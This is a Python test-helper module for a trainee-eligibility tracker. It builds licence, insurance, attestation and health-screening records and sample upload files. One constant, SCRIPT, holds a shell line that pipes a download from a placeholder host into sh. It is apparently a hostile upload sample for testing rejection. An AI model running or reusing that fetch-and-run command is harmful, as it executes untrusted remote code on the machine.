"""Builders for eligibility records and sample upload bodies."""

from __future__ import annotations

import io
from datetime import date, timedelta

from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from tests.conftest import csrf_token
from tracker.core.clock import today_in
from tracker.eligibility.models import (
    EXPERIENCE_STATEMENT,
    ExperienceAttestation,
    HealthScreening,
    Insurance,
    Licence,
)
from tracker.extensions import db, utcnow

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 64
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< >>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def upload(body: bytes, name: str) -> tuple[io.BytesIO, str]:
    """A file for a multipart form."""
    return io.BytesIO(body), name


def post_multipart_in_memory(client, url: str, data: dict):
    """POST a multipart form built in memory (with a CSRF token).

    The test client spools bodies over 500 KB to a temporary file it never closes, which
    pytest (warnings as errors) reports; a body built here avoids that.
    """
    fields = {
        key: FileStorage(value[0], filename=value[1]) if isinstance(value, tuple) else value
        for key, value in data.items()
    }
    boundary, body = encode_multipart({**fields, "csrf_token": csrf_token(client)})
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def day(offset: int) -> date:
    """A date `offset` days from today (UTC, far enough from any program's midnight)."""
    return today_in("UTC") + timedelta(days=offset)


def iso(offset: int) -> str:
    """The ISO text of `day(offset)`."""
    return day(offset).isoformat()


def add_licence(trainee, verified: bool = False, **values) -> Licence:
    """Insert a licence directly."""
    licence = Licence(
        trainee_id=trainee.id,
        licence_type=values.pop("licence_type", "LCSW"),
        number=values.pop("number", "LCS-12345"),
        jurisdiction=values.pop("jurisdiction", "CA"),
        issued_on=values.pop("issued_on", day(-2000)),
        expires_on=values.pop("expires_on", day(700)),
        verified_at=utcnow() if verified else None,
        **values,
    )
    db.session.add(licence)
    db.session.commit()
    return licence


def add_insurance(trainee, verified: bool = False, **values) -> Insurance:
    """Insert an insurance policy directly."""
    insurance = Insurance(
        trainee_id=trainee.id,
        carrier=values.pop("carrier", "CPH & Associates"),
        policy_number=values.pop("policy_number", "POL-778899"),
        starts_on=values.pop("starts_on", day(-100)),
        ends_on=values.pop("ends_on", day(265)),
        verified_at=utcnow() if verified else None,
        **values,
    )
    db.session.add(insurance)
    db.session.commit()
    return insurance


def add_attestation(trainee, years: int = 8) -> ExperienceAttestation:
    """Insert a current experience attestation directly."""
    row = ExperienceAttestation(
        trainee_id=trainee.id,
        years_practice=years,
        practice_settings="Private practice",
        statement=EXPERIENCE_STATEMENT,
    )
    db.session.add(row)
    db.session.commit()
    return row


def add_screening(trainee, clearance: str = "pending") -> HealthScreening:
    """Insert a current health screening directly."""
    row = HealthScreening(
        trainee_id=trainee.id,
        contraindication=False,
        psychosis_history=False,
        cardiovascular=False,
        pregnancy=False,
        willing_to_discuss=True,
        signature=trainee.full_name,
        clearance=clearance,
    )
    db.session.add(row)
    db.session.commit()
    return row
